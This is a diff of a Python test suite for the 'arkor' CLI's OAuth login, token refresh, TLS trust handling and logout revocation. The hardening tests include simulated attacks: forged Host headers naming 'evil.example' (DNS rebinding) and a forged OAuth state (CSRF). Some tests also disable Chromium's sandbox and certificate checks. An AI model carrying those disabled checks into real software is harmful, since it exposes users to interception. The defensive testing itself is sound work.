-        self.assertIsNotNone(self.command({}, platform="win32"))
-
-    def test_wsl_opens_the_windows_browser(self) -> None:
-        argv, _ = self.command({}, kernel="5.15.0-microsoft-standard-WSL2", which=lambda n: "/usr/bin/wslview")
-        self.assertEqual(argv, ["wslview", self.URL])
-        argv, _ = self.command({"WSL_DISTRO_NAME": "Debian"})
-        self.assertEqual(argv[:2], ["powershell.exe", "-NoProfile"])
-        self.assertEqual(argv[-1], f"Start-Process '{self.URL}'")
-        found = arkor_cli._browser_command("https://x/?a='b'", {"WSL_DISTRO_NAME": "D"}, "linux", "", lambda n: None)
-        assert found is not None
-        self.assertEqual(found[0][-1], "Start-Process 'https://x/?a=''b'''")
-
-    @unittest.skipUnless(sys.platform.startswith("linux"), "webbrowser's Linux discovery")
-    def test_default_browser_through_webbrowser(self) -> None:
-        # With a display and no BROWSER, webbrowser (in its child process)
-        # finds xdg-open on PATH and hands it the URL.
-        bindir = tempfile.mkdtemp()
-        self.addCleanup(shutil.rmtree, bindir, True)
-        marker = os.path.join(bindir, "opened")
-        script = os.path.join(bindir, "xdg-open")
-        with open(script, "w") as f:
-            f.write(f'#!/bin/sh\nprintf "%s" "$1" > "{marker}"\n')
-        os.chmod(script, 0o755)
-        # PATH holds nothing but the fake: no real browser on this machine may answer.
-        arkor_cli._open_browser(self.URL, {"PATH": bindir, "DISPLAY": ":0"})
-        deadline = time.monotonic() + 20
-        while not os.path.exists(marker) and time.monotonic() < deadline:
-            time.sleep(0.05)
-        with open(marker) as f:
-            self.assertEqual(f.read(), self.URL)
-
-
-class ChromiumTest(OAuthCase):
-    """The whole browser leg in a real headless Chromium."""
-
-    CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
-
-    def test_chromium_follows_the_redirect_to_the_listener(self) -> None:
-        if not self.CHROMIUM:
-            if os.environ.get("ARKOR_TEST_REQUIRE_CHROMIUM"):  # set by .ci/run, which installs it
-                self.fail("Chromium is required here but not installed")
-            self.skipTest("Chromium is not installed (Debian: apt-get install chromium)")
-        proc, url, _ = self.start_login()
-        profile = tempfile.mkdtemp(prefix="arkor-chromium-")
-        self.addCleanup(shutil.rmtree, profile, True)
-        flags = [
-            "--headless",
-            "--no-sandbox",  # as root here
-            "--disable-gpu",
-            f"--user-data-dir={profile}",
-            "--disable-background-networking",  # there is no outside network
-            "--disable-component-update",
-            "--disable-sync",
-            "--no-first-run",
-            "--disable-quic",
-            "--ignore-certificate-errors",  # the fake Auth0's test CA is not in Chromium's store
-            "--virtual-time-budget=10000",
-            "--dump-dom",
-        ]
-        assert self.CHROMIUM is not None
-        browser = subprocess.run(
-            [self.CHROMIUM, *flags, url],
-            capture_output=True,
-            text=True,
-            timeout=120,
-            stdin=subprocess.DEVNULL,
-            check=False,
-        )
-        self.assertEqual(self.finish(proc), (0, "Signed in\n", ""), browser.stderr[-2000:])
-        self.assertIn("Signed in to Arkor", browser.stdout)
-        self.assertEqual(self.read_creds()["mode"], "auth0")
-        (authorize,) = self.auth0.seen("GET", "/authorize")
-        self.assertIn("Chrome", authorize.headers.get("user-agent", ""))
-        code, out, _ = self.run_main("whoami")
-        self.assertEqual(code, 0)
-        self.assertTrue(out.endswith("Orgs: ada-personal, analytical\n"), out)
-
-
-# ---------------------------------------------------------------------------
-# Beyond the documented CLI: refresh, revoke, paste, timeout, --json, hardening
-# ---------------------------------------------------------------------------
-
-
-class RefreshTest(OAuthCase):
-    """An OAuth session kept alive with its refresh token."""
-
-    def routes(self) -> list[str]:
-        both = [(r, "auth0") for r in self.auth0.requests] + [(r, "cloud") for r in self.cloud.requests]
-        return [f"{r.method} {r.path}" for r, _ in sorted(both, key=lambda x: x[0].when)]
-
-    def assert_identity(self, out: str) -> None:
-        self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)
-
-    def test_near_expiry_refreshes_before_the_request(self) -> None:
-        old = self.sign_in_oauth(expires_in=30)
-        code, out, err = self.run_main("whoami")
-        self.assertEqual((code, err), (0, ""))
-        self.assert_identity(out)
-        self.assertEqual(self.routes(), ["POST /oauth/token", "GET /v1/me"])
-        (refresh,) = self.auth0.seen("POST", "/oauth/token")
-        self.assertEqual(refresh.headers["content-type"], "application/x-www-form-urlencoded")
-        self.assertEqual(
-            {k: v[0] for k, v in parse_qs(refresh.body.decode()).items()},
-            {"grant_type": "refresh_token", "client_id": self.auth0.client_id, "refresh_token": old["refreshToken"]},
-        )
-        new = self.read_creds()
-        fresh = self.auth0.issued[-1]["access_token"]
-        self.assertEqual(self.cloud.seen("GET", "/v1/me")[0].headers["authorization"], f"Bearer {fresh}")
-        self.assertEqual(new["accessToken"], fresh)
-        self.assertEqual(new["refreshToken"], old["refreshToken"])  # no rotation: the same one stays
-        self.assertGreaterEqual(new["expiresAt"], int(time.time()) + 86400 - 5)
-        self.assertEqual(
-            {k: v for k, v in new.items() if k not in ("accessToken", "expiresAt")},
-            {k: v for k, v in old.items() if k not in ("accessToken", "expiresAt")},
-        )
-        if POSIX:
-            self.assertEqual(stat.S_IMODE(os.stat(self.creds).st_mode), 0o600)
-        self.assertEqual(self.leftovers(), [])
-
-    def test_rotated_refresh_token_is_stored(self) -> None:
-        self.auth0.rotate = True
-        old = self.sign_in_oauth(expires_in=-100)
-        code, _out, err = self.run_main("whoami")
-        self.assertEqual((code, err), (0, ""))
-        stored = self.read_creds()["refreshToken"]
-        self.assertNotEqual(stored, old["refreshToken"])
-        self.assertEqual(stored, self.auth0.newest_refresh_token())
-        self.assertTrue(self.auth0.accepts(stored))
-        self.assertFalse(self.auth0.accepts(old["refreshToken"]))
-
-    def test_401_refreshes_and_retries_once(self) -> None:
-        old = self.sign_in_oauth(expires_in=3600)
-        del self.cloud.tokens[old["accessToken"]]  # the cloud-api stopped taking it
-        code, out, err = self.run_main("whoami")
-        self.assertEqual((code, err), (0, ""))
-        self.assert_identity(out)
-        self.assertEqual(self.routes(), ["GET /v1/me", "POST /oauth/token", "GET /v1/me"])
-        self.assertEqual(self.read_creds()["accessToken"], self.auth0.issued[-1]["access_token"])
-
-    def test_401_after_a_refresh_is_not_retried_again(self) -> None:
-        self.sign_in_oauth(expires_in=3600)
-        self.cloud.script("GET", "/v1/me", Answer(401, {"error": "nope"}))
-        code, out, err = self.run_main("whoami")
-        self.assertEqual((code, out, err), (0, "Failed to fetch /v1/me (401). Token may be expired.\n", ""))
-        self.assertEqual(self.routes(), ["GET /v1/me", "POST /oauth/token", "GET /v1/me"])
-
-    def test_refused_refresh_falls_back_and_says_how_to_sign_in(self) -> None:
-        for expires_in in (-100, 3600):  # before the request, and after a 401
-            with self.subTest(expires_in=expires_in):
-                self.auth0.requests.clear()
-                self.cloud.requests.clear()
-                old = self.sign_in_oauth(expires_in=expires_in)
-                self.auth0.refresh_tokens[old["refreshToken"]]["revoked"] = True
-                del self.cloud.tokens[old["accessToken"]]
-                before = self.creds_bytes()
-                code, out, err = self.run_main("whoami")
-                self.assertEqual(
-                    (code, out, err),
-                    (
-                        0,
-                        "Failed to fetch /v1/me (401). Token may be expired.\n",
-                        (
-                            "The session could not be renewed (Auth0: invalid_grant)."
-                            " Sign in again with `arkor login --oauth`.\n"
-                        ),
-                    ),
-                )
-                self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
-                self.assertEqual(self.creds_bytes(), before)
-
-    def test_unreachable_refresh_goes_ahead_with_the_stored_token(self) -> None:
-        self.sign_in_oauth(expires_in=30)
-        before = self.creds_bytes()
-        self.auth0.script("POST", "/oauth/token", Answer(503, body=b"down for maintenance"))
-        code, out, err = self.run_main("whoami")
-        self.assertEqual(code, 0)
-        self.assert_identity(out)
-        self.assertEqual(
-            err,
-            f"Could not renew the access token (https://{self.auth0.domain}/oauth/token answered 503);"
-            " trying the stored one.\n",
-        )
-        self.assertEqual(self.creds_bytes(), before)
-        # Auth0 gone altogether: the same, with the network's reason.
-        self.auth0.stop()
-        code, out, err = self.run_main("whoami")
-        self.assertEqual(code, 0)
-        self.assert_identity(out)
-        self.assertEqual(
-            err,
-            f"Could not renew the access token (Could not reach https://{self.auth0.domain}/oauth/token:"
-            " Connection refused); trying the stored one.\n",
-        )
-        self.assertEqual(self.creds_bytes(), before)
-
-    def test_concurrent_refreshes_keep_the_newest_refresh_token(self) -> None:
-        # Five processes find the token expired at the same moment; Auth0
-        # rotates and refuses a spent refresh token. Under the lock, one
-        # refreshes and the others adopt its result.
-        self.auth0.rotate = True
-        self.auth0.refresh_delay = 0.5
-        self.sign_in_oauth(expires_in=-100)
-        procs = [self.spawn("whoami") for _ in range(5)]
-        for proc in procs:
-            out, err = proc.communicate(timeout=60)
-            self._record(out, err)
-            self.assertEqual((proc.returncode, err), (0, ""))
-            self.assert_identity(out)
-        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
-        stored = self.read_creds()["refreshToken"]
-        self.assertEqual(stored, self.auth0.newest_refresh_token())
-        self.assertTrue(self.auth0.accepts(stored))
-
-    def test_login_waits_for_a_renewal_in_flight(self) -> None:
-        # A renewal reads, asks Auth0, then writes: a login or a logout in
-        # the middle must not be overwritten by that write.
-        self.auth0.refresh_delay = 1.5
-        # Auth0 fails to revoke, so the renewal in flight still succeeds.
-        self.auth0.script("POST", "/oauth/revoke", Answer(500))
-        for second in (["login", "--anonymous"], ["logout", "--yes"]):
-            with self.subTest(second=second):
-                self.auth0.requests.clear()
-                self.sign_in_oauth(expires_in=-100)
-                renewing = self.spawn("whoami")
-                self.wait_until(lambda: self.auth0.seen("POST", "/oauth/token"), 20)
-                proc = self.run_cli(*second)
-                out, err = renewing.communicate(timeout=60)
-                self._record(out, err)
-                self.assertEqual((proc.returncode, renewing.returncode), (0, 0))
-                if second[0] == "login":
-                    self.assertEqual(err, "")
-                    self.assertEqual(self.read_creds()["mode"], "anon")
-                else:
-                    self.assertEqual(err, "")
-                    self.assertFalse(os.path.exists(self.creds))
-
-    def test_renewed_but_not_stored_still_serves_the_command(self) -> None:
-        self.sign_in_oauth(expires_in=-100)
-        before = self.creds_bytes()
-        with mock.patch.object(os, "fsync", side_effect=OSError(28, "No space left on device")):
-            code, out, err = self.run_main("whoami")
-        self.assertEqual(code, 0)
-        self.assert_identity(out)
-        self.assertEqual(
-            err,
-            f"Could not write {self.creds}: No space left on device. The renewed token serves this command only.\n",
-        )
-        self.assertEqual(self.creds_bytes(), before)
-        self.assertEqual(self.leftovers(), [])
-
-    @unittest.skipUnless(POSIX, "fcntl")
-    def test_a_lock_held_too_long_is_given_up_with_a_warning(self) -> None:
-        import fcntl
-
-        self.sign_in_oauth(expires_in=-100)
-        with open(self.creds + ".lock", "a") as held:
-            fcntl.flock(held.fileno(), fcntl.LOCK_EX)
-            code, out, err = self.run_main("whoami", ARKOR_HTTP_TIMEOUT="0.5")
-        self.assertEqual(code, 0)
-        self.assert_identity(out)  # the stored access token still works here
-        self.assertEqual(
-            err,
-            f"Could not renew the access token (Another arkor process holds {self.creds}.lock;"
-            " try again in a moment.); trying the stored one.\n",
-        )
-        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
-
-    def test_lock_is_released_after_a_failure(self) -> None:
-        self.sign_in_oauth(expires_in=-100)
-        self.auth0.script("POST", "/oauth/token", Answer(500), Answer(200, self.auth0._issue(refresh=False)))
-        self.run_main("whoami")
-        code, _out, err = self.run_main("whoami", ARKOR_HTTP_TIMEOUT="1")  # the lock wait is bounded by it
-        self.assertEqual((code, err), (0, ""))
-
-
-class SystemTrustTest(OAuthCase):
-    """HTTPS checked first against the hashed directory of the default trust
-    (read one certificate at a time), then against all of it."""
-
-    CA_DIR = os.path.join(FIXTURES, "ca-dir")
-
-    def directory(self, *files: tuple[str, str]) -> str:
-        """A new directory holding each (name, source file) given."""
-        folder = tempfile.mkdtemp()
-        self.addCleanup(shutil.rmtree, folder, True)
-        for name, source in files:
-            shutil.copy(source, os.path.join(folder, name))
-        return folder
-
-    def lacking(self) -> str:
-        """A hashed directory without the test CA (another certificate under a hash name)."""
-        return self.directory(("00000000.0", os.path.join(FIXTURES, "server.pem")))
-
-    def test_hashed_names(self) -> None:
-        for name in ("5dfd3959.0", "00000000.12"):
-            self.assertTrue(arkor_cli._is_hashed_ca_name(name), name)
-        for name in ("ca-certificates.crt", "5dfd3959.r0", "5dfd395.0", "5dfd39590.0", "5DFD3959.0", "5dfd3959.", "x"):
-            self.assertFalse(arkor_cli._is_hashed_ca_name(name), name)
-
-    @unittest.skipUnless(POSIX, "Windows trusts its certificate stores, not a directory")
-    def test_which_directory_is_tried_first(self) -> None:
-        import ssl
-
-        other = self.lacking()
-        cases: list[tuple[dict[str, str], str | None]] = [
-            ({"SSL_CERT_DIR": self.CA_DIR}, self.CA_DIR),
-            ({"SSL_CERT_DIR": other}, other),
-            # A bundle chosen by hand is loaded whole: a company CA may be there alone.
-            ({"SSL_CERT_DIR": self.CA_DIR, "SSL_CERT_FILE": TEST_CA}, None),
-            ({"SSL_CERT_DIR": self.directory()}, None),  # empty
-            ({"SSL_CERT_DIR": self.directory(("ca-bundle.crt", TEST_CA))}, None),  # a bundle, no hashed names
-            ({"SSL_CERT_DIR": os.path.join(other, "missing")}, None),
-            ({"SSL_CERT_DIR": TEST_CA}, None),  # a file, not a directory
-        ]
-        for env, expected in cases:
-            with self.subTest(env=env), mock.patch.dict(os.environ, env, clear=True):
-                self.assertEqual(arkor_cli._hashed_ca_dir(), expected)
-        # A program that set urllib's own hook chose its trust: it is left alone.
-        hook = mock.patch.object(ssl, "_create_default_https_context", ssl._create_unverified_context)
-        with mock.patch.dict(os.environ, {"SSL_CERT_DIR": self.CA_DIR}, clear=True), hook:
-            self.assertIsNone(arkor_cli._hashed_ca_dir())
-
-    def test_directory_trust_is_the_default_context_but_for_its_source(self) -> None:
-        import http.client
-        import urllib.request
-
-        trust = arkor_cli._directory_trust(self.CA_DIR)
-        # The context http.client makes when given none, on this Python.
-        default = http.client.HTTPSConnection("127.0.0.1")._context
-        # Nothing is parsed up front: that is the whole saving.
-        self.assertEqual(trust.cert_store_stats()["x509_ca"], 0)
-        settings = (
-            "verify_mode",
-            "check_hostname",
-            "options",
-            "verify_flags",
-            "minimum_version",
-            "maximum_version",
-            "protocol",
-            "post_handshake_auth",
-            "hostname_checks_common_name",
-            "security_level",
-        )
-        for attribute in settings:
-            with self.subTest(attribute=attribute):
-                self.assertEqual(getattr(trust, attribute, None), getattr(default, attribute, None))
-        # And the opener holds no other context that would load the whole
-        # default trust (from 3.12 an HTTPSHandler makes one when built).
-        opener = arkor_cli._opener(trust)
-        (handler,) = (h for h in opener.handlers if isinstance(h, urllib.request.HTTPSHandler))
-        self.assertIs(handler._context, trust)
-
-    @unittest.skipUnless(POSIX, "Windows trusts its certificate stores, not a directory")
-    def test_the_directory_alone_verifies_a_renewal(self) -> None:
-        # The bundle OpenSSL loads by default lacks the test CA; the hashed
-        # directory has it, and is all that a renewal over HTTPS needs.
-        self.sign_in_oauth(expires_in=30)
-        code, out, err = self.run_main("whoami", SSL_CERT_FILE=None, SSL_CERT_DIR=self.CA_DIR)
-        self.assertEqual((code, err), (0, ""))
-        self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)
-        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
-
-    @unittest.skipUnless(POSIX, "Windows trusts its certificate stores, not a directory")
-    def test_a_command_tries_the_directory_first(self) -> None:
-        # Seen from the server: with a hashed directory that lacks the test
-        # CA, a renewal makes two TLS attempts (the directory alone, then
-        # the whole default trust); with no hashed directory, one.
-        for directory, attempts in ((self.lacking(), 2), (self.directory(), 1), (self.CA_DIR, 1)):
-            with self.subTest(directory=directory):
-                self.sign_in_oauth(expires_in=30)
-                before = self.auth0.handshakes
-                code, _out, err = self.run_main("whoami", SSL_CERT_FILE=None, SSL_CERT_DIR=directory)
-                self.assertEqual(code, 0, err)
-                self.wait_until(lambda: self.auth0.handshakes >= before + attempts)  # noqa: B023 - called at once
-                time.sleep(0.3)  # and no more come
-                self.assertEqual(self.auth0.handshakes - before, attempts)
-                if directory == self.CA_DIR:
-                    self.assertEqual(err, "")
-                else:  # the renewal failed, and whoami went on with the old token
-                    self.assertIn("TLS certificate not trusted (unable to get local issuer certificate)", err)
-
-    def test_a_refused_certificate_is_checked_again_with_the_whole_trust(self) -> None:
-        import ssl
-        import urllib.error
-        import urllib.request
-
-        lacking = arkor_cli._directory_trust(self.lacking())
-        knowing = ssl.create_default_context(cafile=TEST_CA)
-        url = self.auth0.url + "/oauth/token"
-
-        def post(first: Any, then: Any) -> int:
-            request = urllib.request.Request(url, data=b"grant_type=refresh_token&refresh_token=unknown")
-            try:
-                with arkor_cli._opener(first, then).open(request, timeout=10) as response:
-                    return int(response.status)
-            except urllib.error.HTTPError as exc:  # the fake's refusal is an answer
-                exc.close()
-                return exc.code
-
-        with self.assertRaises(urllib.error.URLError) as caught:
-            post(lacking, lacking)
-        self.assertIsInstance(caught.exception.reason, ssl.SSLCertVerificationError)
-        self.assertEqual(self.auth0.requests, [])
-        # Refused by the first, verified by the second: sent once, not twice.
-        self.assertGreaterEqual(post(lacking, knowing), 400)
-        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
-        # The first is really used: when it verifies, the second is never asked.
-        self.assertGreaterEqual(post(knowing, lacking), 400)
-        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 2)
-
-
-class LogoutRevokeTest(OAuthCase):
-    def sign_in(self) -> dict[str, Any]:
-        return self.sign_in_oauth(expires_in=3600)
-
-    def test_logout_revokes_the_refresh_token(self) -> None:
-        stored = self.sign_in()
-        code, out, err = self.run_main("logout", "-y")
-        self.assertEqual((code, out, err), (0, f"Removed {self.creds}.\n", ""))
-        (revoke,) = self.auth0.seen("POST", "/oauth/revoke")
-        self.assertEqual(revoke.headers["content-type"], "application/x-www-form-urlencoded")
-        self.assertEqual(
-            self.auth0.revoked,
-            [{"client_id": self.auth0.client_id, "token": stored["refreshToken"], "token_type_hint": "refresh_token"}],
-        )
-        self.assertFalse(self.auth0.accepts(stored["refreshToken"]))
-        self.assertFalse(os.path.exists(self.creds))
-        self.assertEqual(self.cloud.requests, [])
-
-    def test_file_removed_whatever_auth0_answers(self) -> None:
-        domain = self.auth0.domain
-        cases = [
-            (Answer(500), f"https://{domain}/oauth/revoke answered 500"),
-            (Answer(400, {"error": "invalid_request"}), f"https://{domain}/oauth/revoke answered 400"),
-        ]
-        for answer, reason in cases:
-            with self.subTest(reason=reason):
-                self.sign_in()
-                self.auth0.script("POST", "/oauth/revoke", answer)
-                code, out, err = self.run_main("logout", "-y")
-                self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
-                self.assertEqual(
-                    err, f"Could not revoke the refresh token ({reason}); it stays valid until it expires.\n"
-                )
-                self.assertFalse(os.path.exists(self.creds))
-
-    def test_file_removed_when_auth0_is_down(self) -> None:
-        self.sign_in()
-        self.auth0.stop()
-        code, out, err = self.run_main("logout", "--yes")
-        self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
-        self.assertEqual(
-            err,
-            f"Could not revoke the refresh token (Could not reach https://{self.auth0.domain}/oauth/revoke:"
-            " Connection refused); it stays valid until it expires.\n",
-        )
-        self.assertFalse(os.path.exists(self.creds))
-
-    def test_revoke_waits_briefly(self) -> None:
-        self.sign_in()
-        self.auth0.script("POST", "/oauth/revoke", Answer(200, delay=60))
-        started = time.monotonic()
-        code, out, err = self.run_main("logout", "-y")
-        self.assertLess(time.monotonic() - started, 20)  # a hang guard: the cap is 5 s
-        self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
-        self.assertIn("timed out", err)
-        self.assertFalse(os.path.exists(self.creds))
-
-    def test_declined_logout_revokes_nothing(self) -> None:
-        before = self.sign_in()
-        self.run_main("logout")  # no terminal: the default, No
-        self.assertEqual(self.auth0.requests, [])
-        self.assertEqual(self.read_creds(), before)
-
-
-class LoginWaitTest(OAuthCase):
-    def test_timeout(self) -> None:
-        started = time.monotonic()
-        code, out, err = self.run_main("login", "--oauth", "--no-browser", "--timeout", "2")
-        self.assertLess(time.monotonic() - started, 15)  # a hang guard, not a speed claim
-        self.assertEqual(code, 1)
-        self.assertTrue(out.startswith("Browser: https://"))
-        self.assertEqual(err, "Login failed\nTimed out waiting for the browser callback after 2 s.\n")
-        self.assert_port_closed(self.ports[0])
-        self.assertFalse(os.path.exists(self.creds))
-
-    def test_bad_timeouts_are_usage_errors(self) -> None:
-        for value in ("0", "-1", "soon", "nan"):
-            with self.subTest(value=value):
-                code, _, err = self.run_main("login", "--oauth", "--timeout", value)
-                self.assertEqual(code, 2)
-                self.assertIn("not a positive number of seconds", err)
-        self.assertEqual(self.cloud.requests, [])
-
-    def where_the_browser_ends(self, shown: str, state: str | None = None) -> str:
-        """Follow the sign-in URL to Auth0's redirect, without reaching the
-        listener: the address a browser on another machine would show."""
-        import ssl
-        import urllib.error
-        import urllib.request
-
-        url = next(line for line in shown.splitlines() if line.startswith("Browser: "))[len("Browser: ") :]
-
-        class Stop(urllib.request.HTTPRedirectHandler):
-            def redirect_request(self, *args: Any) -> None:
-                return None
-
-        opener = urllib.request.build_opener(
-            urllib.request.HTTPSHandler(context=ssl.create_default_context(cafile=TEST_CA)), Stop()
-        )
-        try:
-            opener.open(url, timeout=10)
-        except urllib.error.HTTPError as exc:
-            location = exc.headers["Location"]
-        if state is not None:
-            parts = urlsplit(location)
-            query = {k: v[0] for k, v in parse_qs(parts.query).items()}
-            location = parts._replace(query=urlencode(dict(query, state=state))).geturl()
-        self.assertEqual(self.cloud.seen("GET", "/callback"), [])
-        return location
-
-    @unittest.skipUnless(POSIX, "needs a pty")
-    def test_paste_the_url_over_ssh(self) -> None:
-        code, shown, err = self.run_tty(
-            ["login", "--oauth", "--no-browser"], [self.where_the_browser_ends], NO_COLOR="1"
-        )
-        self.assertEqual((code, err), (0, ""))
-        self.assertIn(
-            "Or, if the browser cannot reach this machine, paste the address it ended on and press Enter:", shown
-        )
-        self.assertTrue(shown.endswith("Signed in\n"), shown)
-        self.assertEqual(self.read_creds()["mode"], "auth0")
-        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
-
-    @unittest.skipUnless(POSIX, "needs a pty")
-    def test_pasted_url_is_checked_like_a_callback(self) -> None:
-        cases = [
-            (
-                lambda shown: self.where_the_browser_ends(shown, state="forged"),
-                "State mismatch \u2014 aborting to prevent CSRF",
-            ),
-            (lambda shown: "http://127.0.0.1/callback?error=access_denied", "Authentication failed: access_denied"),
-            (lambda shown: "not a url at all", "Missing code/state in callback"),
-        ]
-        for answer, reason in cases:
-            with self.subTest(reason=reason):
-                self.auth0.requests.clear()
-                code, _, err = self.run_tty(["login", "--oauth", "--no-browser"], [answer], NO_COLOR="1")
-                self.assertEqual((code, err), (1, f"Login failed\n{reason}\n"))
-                self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
-                self.assertFalse(os.path.exists(self.creds))
-
-    @unittest.skipUnless(POSIX, "needs a pty")
-    def test_paste_while_stdout_goes_through_tee(self) -> None:
-        # `arkor login --oauth --no-browser | tee log` over SSH: stdin is the
-        # terminal, stdout a pipe; pasting must still work.
+class _LoginTtyText(io.StringIO):
+    """Text that says it is a terminal: what a person at one would type, or see."""
+
+    def isatty(self) -> bool:
+        return True
+
+
+def _login_main_on_tty(case: Case, *argv: str, typed: str = "", **env: str | None) -> tuple[int, str, str]:
+    """``main([...])`` in this process with stdin and stdout as terminals
+    (``typed`` is what the person types), stderr a pipe, and no colour:
+    for what a terminal changes that needs no real one."""
+    out, err = _LoginTtyText(), io.StringIO()
+    with contextlib.ExitStack() as stack:
+        stack.enter_context(mock.patch.dict(os.environ, case.env(**dict({"NO_COLOR": "1"}, **env)), clear=True))
+        stack.enter_context(mock.patch.object(sys, "stdin", _LoginTtyText(typed)))
+        stack.enter_context(contextlib.redirect_stdout(out))
+        stack.enter_context(contextlib.redirect_stderr(err))
+        code = arkor_cli.main(list(argv))
+    case._record(out.getvalue(), err.getvalue())
+    return code, out.getvalue(), err.getvalue()
+
+
+class LogoutTest(OAuthCase):
+    """``arkor logout``: the question, what is deleted, the lock, and the
+    revocation of an OAuth refresh token at Auth0."""
+
+    def logout_tty_bytes(self, argv: list[str], answer: bytes, **env: str | None) -> tuple[int, bytes, str]:
+        """Like ``run_tty``, for one answer of raw bytes (which need not be
+        text): typed once the question is shown. Returns the status, the raw
+        bytes the terminal showed, and stderr."""
         import pty
 
         master, slave = pty.openpty()
         proc = subprocess.Popen(
-            [sys.executable, MODULE, "login", "--oauth", "--no-browser"],
+            [sys.executable, MODULE, *argv],
             stdin=slave,
-            stdout=subprocess.PIPE,
+            stdout=slave,
             stderr=subprocess.PIPE,
-            text=True,
-            env=self.env(),
+            env=self.env(**env),
+            close_fds=True,
         )
         os.close(slave)
+        shown = b""
         try:
-            assert proc.stdout is not None
-            # Raw reads with a deadline: a missing prompt must fail, not hang.
-            seen = b""
-            deadline = time.monotonic() + 20
-            while seen.count(b"\n") < 2 and time.monotonic() < deadline:
-                ready, _, _ = select.select([proc.stdout], [], [], 0.1)
-                if ready:
-                    seen += os.read(proc.stdout.fileno(), 4096)
-            browser_line, prompt = (seen.decode().split("\n") + ["", ""])[:2]
-            self.assertTrue(browser_line.startswith("Browser: https://"), seen)
-            self.assertEqual(
-                prompt, "Or, if the browser cannot reach this machine, paste the address it ended on and press Enter:"
-            )
-            os.write(master, self.where_the_browser_ends(browser_line).encode() + b"\n")
-            out, err = proc.communicate(timeout=30)
+            typed = False
+            while True:
+                ready, _, _ = select.select([master], [], [], 20)
+                self.assertTrue(ready, f"the terminal stayed silent; it showed {shown!r}")
+                try:
+                    chunk = os.read(master, 4096)
+                except OSError:  # EIO: the child closed the terminal
+                    break
+                if not chunk:
+                    break
+                shown += chunk
+                if not typed and shown.endswith(b"] "):
+                    os.write(master, answer)
+                    typed = True
+            code = proc.wait(timeout=20)
+            err = proc.stderr.read().decode() if proc.stderr else ""
         finally:
             if proc.poll() is None:
                 proc.kill()
+                proc.wait()
+            if proc.stderr:
+                proc.stderr.close()
             os.close(master)
-        self._record(out, err)
-        self.assertEqual((proc.returncode, out, err), (0, "Signed in\n", ""))
+        self._record(shown.decode("utf-8", "replace"), err)
+        return code, shown, err
 
-    def test_no_paste_prompt_without_a_terminal(self) -> None:
-        proc, url, _ = self.start_login()
-        browse(url)
-        self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))
+    # -- no file, flags, no terminal ---------------------------------------------
 
-    def test_foreign_host_header_is_refused_without_ending_the_login(self) -> None:
-        proc, url, q = self.start_login()
-        port = self.ports[0]
-        # A page on evil.example whose name was rebound to 127.0.0.1 (DNS rebinding).
-        for host in (f"evil.example:{port}", "127.0.0.1", f"127.0.0.1:{port + 1}", f"localhost.evil:{port}"):
-            status, headers, body = self.callback(port, "/callback?code=x&state=" + q["state"], host=host)
-            self.assertEqual((status, body), (400, b"Unexpected Host header"), host)
-            self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
-        self.assertIsNone(proc.poll())
-        self.assertEqual(self.auth0.requests, [])
-        # localhost:<port> is one of ours.
-        location = urlsplit(self.redirect_of(url))
-        status, _, _ = browse(f"http://localhost:{port}/callback?{location.query}")
-        self.assertEqual(status, 200)
-        self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))
-
-    def redirect_of(self, url: str) -> str:
-        return self.where_the_browser_ends(f"Browser: {url}")
-
-    def test_only_the_first_callback_counts(self) -> None:
-        # Two callbacks race in: one decides, the other is turned away.
-        proc, url, _q = self.start_login()
-        good = urlsplit(self.redirect_of(url)).query
-        results: list[int] = []
-
-        def call(query: str) -> None:
-            try:
-                results.append(self.callback(self.ports[0], "/callback?" + query)[0])
-            except OSError:
-                results.append(-1)  # the listener had already closed
-
-        import threading
-
-        threads = [threading.Thread(target=call, args=(good,)) for _ in range(4)]
-        for t in threads:
-            t.start()
-        for t in threads:
-            t.join(20)
-        self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))
-        self.assertEqual(results.count(200), 1, results)
-        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
-
-
-class WhoamiJsonTest(Case):
-    def test_json_prints_the_whole_body(self) -> None:
-        self.sign_in_anon()
-        body = {"user": {"id": "u1", "name": "Zo\u00eb"}, "orgs": [{"slug": "a"}], "extra": [1, None]}
-        self.cloud.script("GET", "/v1/me", Answer(200, body))
-        code, out, err = self.run_main("whoami", "--json")
-        self.assertEqual((code, err), (0, ""))
-        self.assertEqual(json.loads(out), body)
-        self.assertEqual(out, json.dumps(body, indent=2) + "\n")  # ASCII: valid JSON in any encoding
-
-    def test_json_survives_a_narrow_encoding(self) -> None:
-        self.sign_in_anon()
-        body = {"user": {"name": "Zo\u00eb \U0001f600"}, "orgs": []}
-        self.cloud.script("GET", "/v1/me", Answer(200, body))
-        proc = self.run_cli("whoami", "--json", PYTHONIOENCODING="cp1252")
-        self.assertEqual(proc.returncode, 0)
-        self.assertEqual(json.loads(proc.stdout), body)
-
-    def test_json_keeps_stdout_for_json(self) -> None:
-        code, out, err = self.run_main("whoami", "--json")
-        self.assertEqual((code, out, err), (0, "", NOT_SIGNED_IN))
-        self.sign_in_anon()
-        self.cloud.script("GET", "/v1/me", Answer(500))
-        code, out, err = self.run_main("whoami", "--json")
-        self.assertEqual((code, out, err), (0, "", "Failed to fetch /v1/me (500). Token may be expired.\n"))
-        self.cloud.script("GET", "/v1/me", Answer(426, body=b""))
-        code, out, err = self.run_main("whoami", "--json")
-        self.assertEqual((code, out), (1, ""))
-        self.cloud.script("GET", "/v1/me", Answer(200, body=b"<html>"))
-        code, out, err = self.run_main("whoami", "--json")
